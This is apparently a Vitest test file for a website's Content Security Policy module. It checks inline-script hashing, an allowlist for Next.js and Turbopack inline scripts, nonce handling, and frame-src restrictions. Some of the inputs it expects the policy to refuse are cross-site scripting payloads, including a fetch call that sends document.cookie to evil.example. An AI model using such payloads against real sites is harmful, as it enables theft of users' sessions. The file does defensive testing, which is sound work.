import { createHash } from "node:crypto"
import { describe, expect, it } from "vitest"

import {
  BASE_DIRECTIVES,
  executableInlineScripts,
  FRAME_ORIGINS,
  hashSource,
  inlineScriptSources,
  isAllowedInline,
  KNOWN_INLINE_SCRIPTS,
  scriptSrc,
  TURNSTILE_ORIGIN,
  withScriptSrc,
} from "./csp.mjs"

const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`
const flightRow = `self.__next_f.push([1,${JSON.stringify('5:["$","p",null,{"children":"Olá </script>"}]\n').replaceAll("<", "\\u003c")}])`
const bootstrap =
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});'

describe("executableInlineScripts", () => {
  it("keeps inline classic scripts and leaves out external ones and data blocks", () => {
    const html = [
      '<script src="/_next/static/chunks/a.js" async=""></script>',
      "<script>self.__next_f.push([0])</script>",
      '<script type="application/ld+json">{"@type":"Organization"}</script>',
      '<script type="application/json">(function(){})()</script>',
      '<script type="module">import("/x.js")</script>',
      '<SCRIPT nonce="abc">one()\r\ntwo()</SCRIPT >',
    ].join("")
    expect(executableInlineScripts(html)).toEqual(["self.__next_f.push([0])", 'import("/x.js")', "one()\ntwo()"])
  })
})

describe("hashSource", () => {
  it("is the CSP source of the script's SHA-256, base64", () => {
    expect(hashSource("alert(1)")).toBe(sha256("alert(1)"))
    expect(hashSource("Olá")).toBe(sha256("Olá"))
  })
})

describe("isAllowedInline", () => {
  it.each([
    ["an RSC payload row", flightRow],
    ["the RSC buffer's start", "(self.__next_f=self.__next_f||[]).push([0])"],
    ["form state", "self.__next_f.push([2,null])"],
    ["Turbopack's chunk-group bootstrap", bootstrap],
    ["React's instructions alone", '$RC("B:1","S:1");$RC("B:2","S:2")'],
  ])("allows %s", (_, script) => {
    expect(isAllowedInline(script)).toBe(true)
  })

  it("allows the reviewed constant scripts, and React's reviewed runtime followed by its calls", () => {
    expect(KNOWN_INLINE_SCRIPTS.length).toBeGreaterThan(0)
    for (const { hash } of KNOWN_INLINE_SCRIPTS) expect(hash).toMatch(/^'sha256-[A-Za-z0-9+/]{43}='$/)
  })

  it.each([
    ["code smuggled into a post", "fetch('https://evil.example/?c='+document.cookie)"],
    ["code after a payload row", `${flightRow};alert(1)`],
    ["code inside a row's place", "self.__next_f.push([1,alert(1)])"],
    ["a row that is not JSON", 'self.__next_f.push([1,"a"+alert(1)])'],
    ["code before React's calls", 'alert(1);$RC("B:1","S:1")'],
    ["React's call with code as argument", '$RC("B:1",alert(1))'],
    ["code in the bootstrap", '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1));'],
  ])("refuses %s", (_, script) => {
    expect(isAllowedInline(script)).toBe(false)
  })
})

describe("inlineScriptSources", () => {
  it("hashes the framework's scripts once each and reports the rest, which stay blocked", () => {
    const html = `<script>${flightRow}</script><script>${flightRow}</script><div><script>alert(document.cookie)</script></div><script>${bootstrap}</script>`
    const { sources, refused } = inlineScriptSources(html)
    expect(sources).toEqual([sha256(flightRow), sha256(bootstrap)])
    expect(refused).toEqual([{ hash: sha256("alert(document.cookie)"), start: "alert(document.cookie)" }])
  })
})

describe("scriptSrc", () => {
  it("prerendered pages: this origin and their hashes, no nonce, never unsafe-inline", () => {
    expect(scriptSrc({ hashes: ["'sha256-a'", "'sha256-a'", "'sha256-b'"] })).toBe(
      "script-src 'self' 'sha256-a' 'sha256-b'"
    )
  })

  it("pages rendered per request: the nonce, the reviewed constants and the shells' hashes", () => {
    const directive = scriptSrc({ nonce: "bm9uY2U=", hashes: ["'sha256-shell'"] })
    expect(directive.startsWith("script-src 'self' 'nonce-bm9uY2U='")).toBe(true)
    for (const { hash } of KNOWN_INLINE_SCRIPTS) expect(directive).toContain(hash)
    expect(directive.endsWith("'sha256-shell'")).toBe(true)
    expect(directive).not.toContain("unsafe")
  })

  it("adds Turnstile's origin only when asked", () => {
    expect(scriptSrc({ captcha: true })).toBe("script-src 'self' https://challenges.cloudflare.com")
    expect(scriptSrc({})).toBe("script-src 'self'")
  })
})

describe("withScriptSrc", () => {
  it("sets the script-src of a policy, replacing one already there", () => {
    expect(withScriptSrc("frame-ancestors 'none'; script-src 'unsafe-inline';", "script-src 'self'")).toBe(
      "frame-ancestors 'none'; script-src 'self'"
    )
  })

  it("starts from the base directives when there is no policy yet", () => {
    expect(withScriptSrc(undefined, "script-src 'self'")).toBe(
      "frame-ancestors 'none'; base-uri 'self'; object-src 'none'; form-action 'self'; " +
        "frame-src https://www.youtube-nocookie.com https://player.vimeo.com https://challenges.cloudflare.com; " +
        "worker-src 'self'; manifest-src 'self'; script-src 'self'"
    )
  })

  it("keeps the frame-src of the policy it is given", () => {
    const base = BASE_DIRECTIVES.join("; ")
    expect(withScriptSrc(base, "script-src 'self'")).toBe(`${base}; script-src 'self'`)
  })
})

describe("frame-src", () => {
  const frameSources = (policy: string) => {
    const directives = policy.split(";").map((part) => part.trim())
    const frames = directives.filter((part) => /^frame-src(?:\s|$)/.test(part))
    expect(frames, "exactly one frame-src directive").toHaveLength(1)
    return frames[0]!.split(/\s+/).slice(1)
  }

  it("every response's policy lets frames come only from the two video players and Turnstile", () => {
    expect(frameSources(BASE_DIRECTIVES.join("; "))).toEqual([
      "https://www.youtube-nocookie.com",
      "https://player.vimeo.com",
      "https://challenges.cloudflare.com",
    ])
    expect(FRAME_ORIGINS).toContain(TURNSTILE_ORIGIN)
  })

  it("never widens to a wildcard, a scheme or the tracking YouTube host", () => {
    const sources = frameSources(BASE_DIRECTIVES.join("; "))
    for (const source of sources) expect(source).toMatch(/^https:\/\/[a-z0-9.-]+$/)
    expect(sources).not.toContain("https://www.youtube.com")
    expect(sources).not.toContain("*")
  })
})
